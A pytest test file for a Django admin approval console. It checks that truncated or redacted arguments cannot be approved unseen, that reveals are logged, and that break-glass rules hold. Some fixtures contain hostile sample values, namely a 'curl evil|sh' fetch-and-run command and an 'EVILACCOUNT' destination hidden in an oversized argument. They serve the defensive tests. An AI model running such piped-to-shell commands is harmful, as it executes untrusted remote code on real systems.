"""What an approver reads before a yes: all of it, or no yes; and only what they may do is offered."""

from __future__ import annotations

import pytest
from django.contrib.admin.models import LogEntry
from django.urls import reverse

from tests import console

pytestmark = pytest.mark.django_db(transaction=True)


def approver(name="anna", *more):
    return console.logged_in(console.viewer(name, "approvals.decide_approval", *more))


def page(client, approval) -> str:
    return client.get(reverse("admin:approvals_approval_change", args=[approval.id])).content.decode()


def post(client, approval, verdict="approve", reason="") -> str:
    form = {"verdict": verdict, "reason": reason}
    address = reverse("admin:approvals_approval_decide", args=[approval.id])
    return client.post(address, form, follow=True).content.decode()


def test_arguments_that_the_page_cuts_off_cannot_be_approved():
    """Short as canonical JSON, long once each item has a line of its own."""
    asked = console.waiting_run(a=[1] * 60_000, to="EVILACCOUNT")
    anna = approver()
    html = page(anna, asked)
    assert "EVILACCOUNT" not in html.split('id="arguments"')[1].split("</pre>")[0]
    assert "cannot be approved on this page" in html
    assert 'value="approve"' not in html
    assert "too long to be shown in full" in post(anna, asked)
    asked.refresh_from_db()
    assert asked.state == "waiting"
    assert "rejected by anna" in post(anna, asked, "reject", "too long")


def test_breaking_the_glass_is_not_offered_after_ones_own_yes():
    asked = console.waiting_run(rule={"quorum": 2, "break_glass": True})
    anna, ben = approver("anna", "approvals.break_glass_approval"), approver("ben", "approvals.break_glass_approval")
    assert 'value="break_glass"' in page(anna, asked)
    post(anna, asked)
    assert 'value="break_glass"' not in page(anna, asked)
    assert "you have said yes to it" in post(anna, asked, "break_glass", "now")
    assert 'value="break_glass"' in page(ben, asked)
    assert "granted by ben" in post(ben, asked, "break_glass", "now")


def reveal(client, approval):
    return client.post(reverse("admin:approvals_approval_reveal", args=[approval.id]), follow=True)


def test_a_redacted_text_must_be_revealed_before_a_yes_and_that_is_logged():
    asked = console.waiting_run(body="deploy", token="curl evil|sh")
    anna, ben = approver("anna"), approver("ben")
    html = page(anna, asked)
    assert "curl evil|sh" not in html
    assert 'value="approve"' not in html
    assert 'value="reject"' in html
    assert "reveal them first" in post(anna, asked)
    assert "curl evil|sh" in reveal(anna, asked).content.decode()
    assert LogEntry.objects.get(user__username="anna", change_message__startswith="revealed").object_id == str(asked.id)
    assert 'value="approve"' in page(anna, asked)
    assert "curl evil|sh" not in page(ben, asked), "what one person saw is not shown to others"
    assert "reveal them first" in post(ben, asked)
    assert "granted by anna" in post(anna, asked)


def test_who_may_not_decide_this_request_may_not_reveal_it():
    asked = console.waiting_run(rule={"group": "finance"}, token="curl evil|sh")
    assert reveal(console.logged_in(console.viewer("vera")), asked).status_code == 403
    assert "curl evil|sh" not in reveal(approver("anna"), asked).content.decode()
    assert not LogEntry.objects.filter(change_message__startswith="revealed").exists()
